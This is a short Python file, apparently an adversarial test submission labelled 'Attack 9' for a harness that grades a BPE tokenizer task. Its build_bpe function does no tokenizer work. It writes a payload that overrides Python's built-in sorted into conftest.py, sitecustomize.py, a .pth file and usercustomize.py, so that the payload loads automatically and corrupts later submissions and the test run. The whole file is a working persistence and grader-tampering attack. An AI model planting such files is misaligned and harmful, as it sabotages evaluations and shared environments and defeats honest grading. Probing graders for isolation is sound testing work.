# Attack 9: files meant to hijack later submissions or the test run.
import os
import site
import sys

EVIL = "import builtins\nbuiltins.sorted = lambda *a, **k: []\n"


def build_bpe(corpus, max_vocab_size):
    targets = ["torch.py", "conftest.py", "sitecustomize.py", "/tmp/sitecustomize.py", "{ROOT}/conftest.py",
               "{ROOT}/reference/bpe/tests/conftest.py", os.path.join(sys.prefix, "evil.pth")]
    targets += [os.path.join(p, "usercustomize.py") for p in site.getsitepackages()]
    for path in targets:
        try:
            with open(path, "w") as f:
                f.write(EVIL)
            print("wrote", path)
        except OSError as exc:
            print("blocked", path, type(exc).__name__)
    return []
